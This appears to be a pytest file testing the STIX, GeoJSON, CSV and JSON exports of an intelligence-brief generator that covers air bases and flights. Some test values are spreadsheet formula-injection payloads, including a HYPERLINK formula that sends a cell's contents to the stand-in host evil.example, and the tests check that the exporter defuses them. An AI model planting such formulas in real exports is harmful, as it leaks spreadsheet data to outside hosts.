"""The exports: STIX that the OASIS validator accepts, RFC 7946 GeoJSON, CSV that reads back, stable bytes."""
from __future__ import annotations

import dataclasses
import csv
import dataclasses
import io
import json

import pytest
from bs4 import BeautifulSoup
from stix2validator import ValidationOptions, validate_string

from generator.facts import dataset, markings

from generator.outputs import exports, stix

FILES = ("brief.json", "brief.geojson", "brief.stix.json", *(f"{k}.csv" for k in exports.CSV_KINDS))


@pytest.fixture(scope="module")
def data(example):
    """The facts as the full edition holds them: each carrying its marking."""
    return markings.release(dataset.load(example.data))[0]


def read(example, name: str) -> bytes:
    return (example.site / "data" / name).read_bytes()


def test_the_data_page_links_every_export_and_the_site_serves_it(example):
    soup = BeautifulSoup((example.site / "data.html").read_text(encoding="utf-8"), "html.parser")
    links = {a["href"] for a in soup.select("article a[href^='data/']")}
    assert links == {f"data/{name}" for name in FILES}
    assert all(read(example, name) for name in FILES)
    nav = [a.get_text(strip=True) for a in soup.select("nav a")]
    assert "Data" in nav


def test_exports_are_the_same_bytes_when_rebuilt(example, data):
    again = {e.path: e.body for e in exports.exports(data, example.history().epoch)}
    assert {f"data/{name}": read(example, name) for name in FILES} == again


# ---------------------------------------------------------------- STIX


def test_the_stix_bundle_passes_the_oasis_validator_without_errors(example):
    result = validate_string(read(example, "brief.stix.json").decode(), ValidationOptions(version="2.1"))
    errors = [str(e) for e in result.errors]
    assert result.is_valid and errors == []


def test_the_bundle_is_a_marked_report_referencing_every_object(example, data):
    bundle = json.loads(read(example, "brief.stix.json"))
    objects = {o["id"]: o for o in bundle["objects"]}
    marking = objects["marking-definition--94868c89-83c2-464b-929b-a1a8aa3c8487"]  # OASIS TLP:CLEAR
    assert marking["name"] == "TLP:CLEAR" == data.brief.tlp
    assert marking["extensions"][stix.TLP_EXTENSION] == {"extension_type": "property-extension", "tlp_2_0": "clear"}
    report = next(o for o in bundle["objects"] if o["type"] == "report")
    assert report["name"] == data.brief.title and report["published"] == "2024-12-16T00:00:00.000Z"
    assert set(report["object_refs"]) == {i for i, o in objects.items() if o["type"] in ("location", "note", "relationship")}
    assert all(o["object_marking_refs"] == [marking["id"]] for o in bundle["objects"] if o["type"] != "marking-definition")
    identity = objects[report["created_by_ref"]]
    assert identity["type"] == "identity" and identity["name"] == data.brief.publisher
    locations = [o for o in bundle["objects"] if o["type"] == "location"]
    assert sorted(o["name"] for o in locations) == sorted(b.name for b in data.bases.values())
    assert {s["external_id"] for s in report["external_references"]} == set(data.sources)


def test_assessment_confidence_follows_the_stix_scale_and_likelihood_stays_apart(example, data):
    objects = {o["id"]: o for o in json.loads(read(example, "brief.stix.json"))["objects"]}
    for aid, a in data.assessments.items():
        note = objects[stix.stix_id("note", f"assessment/{aid}")]
        assert note.get("confidence") == {"low": 15, "moderate": 50, "high": 85, None: None}[a.confidence]
        if a.likelihood:
            assert f'estimative-language:likelihood-probability="{a.likelihood}"' in note["labels"]
            assert f"Likelihood: {a.likelihood}" in note["content"]
    for fid, f in data.flights.items():
        note = objects[stix.stix_id("note", f"flight/{fid}")]
        assert note.get("confidence") == {1: 90, 2: 70, 3: 50, 4: 30, 5: 10, 6: None, None: None}[f.credibility]


@pytest.mark.parametrize("tlp, level, marking_id", [
    ("TLP:GREEN", "green", "marking-definition--bab4a63c-aed9-4cf5-a766-dfca5abac2bb"),
    ("TLP:AMBER", "amber", "marking-definition--55d920b0-5e8b-4f79-9ee9-91f868d9b421"),
    ("TLP:AMBER+STRICT", "amber+strict", "marking-definition--939a9414-2ddd-4d32-a0cd-375ea402b003"),
    ("TLP:RED", "red", "marking-definition--e828b379-4e03-4974-9ac4-e53a884c97c1"),
])
def test_each_tlp_label_uses_the_standard_marking_definition(tlp, level, marking_id):
    made = stix.marking(tlp)
    assert made["id"] == marking_id and made["extensions"][stix.TLP_EXTENSION]["tlp_2_0"] == level


def test_ids_come_from_fact_ids_so_a_new_edition_updates_the_same_objects(data):
    first = stix.bundle(data, 0)
    later = stix.bundle(dataclasses.replace(data, brief=data.brief.model_copy(
        update={"edition": data.brief.edition.replace(day=20)})), 0)
    assert [o["id"] for o in first["objects"]] == [o["id"] for o in later["objects"]]
    assert first["objects"][3]["modified"] < later["objects"][3]["modified"]


# ---------------------------------------------------------------- GeoJSON (RFC 7946)

GEOMETRIES = {"Point": 0, "MultiPoint": 1, "LineString": 1, "MultiLineString": 2, "Polygon": 2, "MultiPolygon": 3}
FORBIDDEN = {"FeatureCollection": {"coordinates", "geometries", "geometry", "properties"},
             "Feature": {"coordinates", "geometries", "features"},
             "geometry": {"features", "geometry", "properties"}}


def geojson_problems(doc) -> list[str]:
    """Every RFC 7946 rule the document breaks, as 'where: what'."""
    if doc.get("type") != "FeatureCollection" or not isinstance(doc.get("features"), list):
        return ["root: expected a FeatureCollection with a features list"]
    problems = [f"root: forbidden member '{k}'" for k in sorted(FORBIDDEN["FeatureCollection"] & set(doc))]
    for n, feature in enumerate(doc["features"]):
        where = f"features[{n}]"
        if feature.get("type") != "Feature" or "geometry" not in feature or "properties" not in feature:
            problems.append(f"{where}: expected type Feature with geometry and properties")
            continue
        problems += [f"{where}: forbidden member '{k}'" for k in sorted(FORBIDDEN["Feature"] & set(feature))]
        geometry = feature["geometry"]
        if geometry is not None:
            problems += _geometry_problems(geometry, f"{where}.geometry")
    return problems


def _geometry_problems(geometry: dict, where: str) -> list[str]:
    kind = geometry.get("type")
    if kind not in GEOMETRIES:
        return [f"{where}: unknown geometry type {kind!r}"]
    problems = [f"{where}: forbidden member '{k}'" for k in sorted(FORBIDDEN["geometry"] & set(geometry))]
    problems += _coordinate_problems(geometry.get("coordinates"), GEOMETRIES[kind], kind, where)
    return problems


def _coordinate_problems(value, depth: int, kind: str, where: str) -> list[str]:
    if depth == 0:
        ok = isinstance(value, list) and len(value) in (2, 3) and all(isinstance(v, (int, float)) for v in value)
        if not ok:
            return [f"{where}: position {value!r} is not [longitude, latitude]"]
        lon, lat = value[0], value[1]
        return [] if -180 <= lon <= 180 and -90 <= lat <= 90 else [f"{where}: position {value!r} is out of range"]
    if not isinstance(value, list):
        return [f"{where}: coordinates {value!r} are not a list"]
    problems = [p for item in value for p in _coordinate_problems(item, depth - 1, kind, where)]
    if depth == 1 and kind in ("LineString", "MultiLineString") and len(value) < 2:
        problems.append(f"{where}: a line needs at least two positions")
    if depth == 1 and kind in ("Polygon", "MultiPolygon") and (len(value) < 4 or value[0] != value[-1]):
        problems.append(f"{where}: a ring needs four or more positions and must be closed")
    return problems


def test_the_geojson_export_follows_rfc_7946(example, data):
    doc = json.loads(read(example, "brief.geojson"))
    assert geojson_problems(doc) == []
    bases = {f["properties"]["fact"]: f for f in doc["features"] if f["properties"]["kind"] == "base"}
    hmeimim = data.bases["hmeimim-air-base"].location.point()
    assert bases["hmeimim-air-base"]["geometry"]["coordinates"] == [round(hmeimim[1], 6), round(hmeimim[0], 6)]
    assert bases["hmeimim-air-base"]["properties"]["status"] == data.bases["hmeimim-air-base"].current().status


@pytest.mark.parametrize("doc, problems", [
    ({"type": "Feature"}, ["root: expected a FeatureCollection with a features list"]),
    ({"type": "FeatureCollection", "features": [], "crs": {}, "coordinates": []},
     ["root: forbidden member 'coordinates'"]),
    ({"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {},
      "geometry": {"type": "Point", "coordinates": [35.9, 135.4]}}]},
     ["features[0].geometry: position [35.9, 135.4] is out of range"]),
    ({"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {},
      "geometry": {"type": "LineString", "coordinates": [[1, 2]]}}]},
     ["features[0].geometry: a line needs at least two positions"]),
    ({"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {},
      "geometry": {"type": "Polygon", "coordinates": [[[0, 0], [1, 0], [1, 1], [0, 1]]]}}]},
     ["features[0].geometry: a ring needs four or more positions and must be closed"]),
    ({"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {}, "features": [],
      "geometry": {"type": "Circle", "coordinates": [0, 0]}}]},
     ["features[0]: forbidden member 'features'", "features[0].geometry: unknown geometry type 'Circle'"]),
])
def test_the_geojson_check_catches_what_rfc_7946_forbids(doc, problems):
    assert geojson_problems(doc) == problems


# ---------------------------------------------------------------- CSV


@pytest.mark.parametrize("kind", exports.CSV_KINDS)
def test_each_csv_reads_back_to_the_same_rows(example, data, kind):
    rows = list(csv.DictReader(io.StringIO(read(example, f"{kind}.csv").decode("utf-8"), newline="")))
    assert rows == exports.csv_rows(data, kind)
    assert len(rows) == (sum(len(b.observations) for b in data.bases.values()) if kind == "observations"
                         else len(data.of_kind(kind)))


def test_csv_cells_hold_the_facts_as_written(example, data):
    flights = {r["id"]: r for r in csv.DictReader(io.StringIO(read(example, "flights.csv").decode(), newline=""))}
    group = flights["belarus-libya-since-2024-12-08"]
    assert (group["count"], group["count_is_lower_bound"], group["origin_country"]) == ("3", "yes", "BY")
    assert group["departure"] == "2024-12-08/2024-12-14"
    assert group["sources"].split(";") == data.flights["belarus-libya-since-2024-12-08"].sources
    assert "at least three" in group["note"]


@pytest.mark.parametrize("value, cell", [
    ('=HYPERLINK("https://evil.example/?"&A1,"RA-78830")', '\'=HYPERLINK("https://evil.example/?"&A1,"RA-78830")'),
    ("+7 495 123", "'+7 495 123"),
    ("-2+3", "'-2+3"),
    ("@SUM(1,2)", "'@SUM(1,2)"),
    ("\tindented", "'\tindented"),
    ("\rcarriage", "'\rcarriage"),
    ("-12.5", "-12.5"),
    ("+3", "+3"),
    ("RA-78830", "RA-78830"),
    ("a = b", "a = b"),
    ("", ""),
])
def test_a_csv_cell_that_a_spreadsheet_would_run_as_a_formula_reads_as_text(value, cell):
    assert exports.inert_cell(value) == cell


def test_a_formula_in_a_registration_reaches_the_flights_csv_as_text(brief):
    from generator import cli
    from tests.trees import flight

    formula = '=HYPERLINK("https://evil.example/","RA-78830")'
    project = brief({"data/flights/f.yml": flight("f", f"aircraft: {{registration: '{formula}'}}\n")})
    assert cli.main(["-C", str(project.root), "build"]) == 0
    raw = (project.site / "data" / "flights.csv").read_text(encoding="utf-8")
    assert '"\'=HYPERLINK(""https://evil.example/"",""RA-78830"")"' in raw
    row = next(csv.DictReader(io.StringIO(raw, newline="")))
    assert row["registration"] == "'" + formula and row["count"] == "1"


def test_the_json_export_holds_every_fact_under_a_versioned_schema(example, data):
    doc = json.loads(read(example, "brief.json"))
    assert doc["schema"] == "intelbrief-facts/1"
    for kind in ("sources", "bases", "flights", "assessments", "events"):
        assert [f["id"] for f in doc[kind]] == sorted(data.of_kind(kind))
    assert doc["flights"][1]["count"] == {"at_least": 3}
    line = doc["sourcing"]["more-departures-from-hmeimim"]  # every chain ends in the news report, graded F
    assert (line["independent_lines"], line["best_grade"]) == (1, "F")
    assert {(c["originator"], c["channel"], c["grade"]) for c in line["chains"]} >= {
        ("russian-statement-diplomats", "news-report-2024-12", "F"), ("news-report-2024-12", "news-report-2024-12", "F")}
    assert sum(c["independent"] for c in line["chains"]) == 1
